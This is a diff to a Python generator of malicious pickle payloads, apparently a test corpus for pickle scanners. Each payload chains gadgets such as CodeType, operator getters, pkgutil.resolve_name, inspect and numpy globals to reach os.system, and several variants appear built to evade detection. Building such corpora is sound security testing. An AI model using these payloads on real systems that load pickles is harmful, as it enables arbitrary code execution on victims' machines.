@@ -42,7 +42,6 @@ import pickle
 import pickletools
 import shlex
 import struct
-import sys
 from collections import OrderedDict
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -409,8 +408,8 @@ def _(ctx):
         if isinstance(v, tuple):
             return T(*[enc(x) for x in v])
         raise TypeError(v)
-    code = C(G("types", "CodeType"), *[enc(a) for a in args])
-    return pk(C(G("types", "FunctionType"), code, EMPTY_DICT) + T() + b"R"), _file(ctx)
+    code = C(G("types", "CodeType"), *[enc(a) for a in args]) + PUT(0) + POP
+    return pk(code + C(G("types", "FunctionType"), GET(0), EMPTY_DICT) + T() + b"R"), _file(ctx)
 
 
 @payload("cProfile-run", "cProfile:run")
@@ -540,12 +539,15 @@ def _operator_chain(ctx, mod, first):
     ag = lambda a: C(G(mod, "attrgetter"), U(a))
     ig = lambda k: C(G(mod, "itemgetter"), U(k))
     mc = C(G(mod, "methodcaller"), U("system"), U(_sh(ctx)))
+    # The getter under test runs first (its result memoized), so it is the first import.
     pre = b""
+    glb = C(ag("__init__.__globals__"), G("collections", "Counter"))
     if first == "methodcaller":
         pre, mc = mc + PUT(0) + POP, GET(0)
     elif first == "itemgetter":
         pre = ig("_sys") + PUT(1) + POP
-    glb = C(ag("__init__.__globals__"), G("collections", "Counter"))
+    else:
+        pre, glb = glb + PUT(2) + POP, GET(2)
     sysm = C(GET(1) if first == "itemgetter" else ig("_sys"), glb)
     osm = C(ig("os"), C(ag("modules"), sysm))
     return pk(pre + C(mc, osm)), _file(ctx)
@@ -576,7 +578,7 @@ def _(ctx):
     return pk(C(C(G("pkgutil", "resolve_name"), U("os:system")), U(_sh(ctx)))), _file(ctx)
 
 
-@payload("inspect-getattr_static", "inspect:getmodule")
+@payload("inspect-getattr_static", "inspect:getattr_static")
 def _(ctx):
     # inspect.getmodule(inspect.getmodule) is inspect itself, which imports os.
     insp = C(G("inspect", "getmodule"), G("inspect", "getmodule"))
@@ -1087,9 +1089,9 @@ def _(ctx):
          expect=frozenset({"numpy.core.numeric:_frombuffer.__globals__.get"}))
 def _(ctx):
     # numpy.core.numeric's globals hold sys; sys.modules["os"].system by getattr.
-    sysm = C(G("numpy.core.numeric", "_frombuffer.__globals__.get"), U("sys"))
-    osm = C(getattr_(getattr_(sysm, "modules"), "get"), U("os"))
-    return pk(C(getattr_(osm, "system"), U(_sh(ctx))), 5), _file(ctx)
+    sysm = C(G("numpy.core.numeric", "_frombuffer.__globals__.get"), U("sys")) + PUT(0) + POP
+    osm = C(getattr_(getattr_(GET(0), "modules"), "get"), U("os"))
+    return pk(sysm + C(getattr_(osm, "system"), U(_sh(ctx))), 5), _file(ctx)
 
 
 @payload("shape-second-proto-dotted", "shape: a second PROTO switches dotted resolution on",
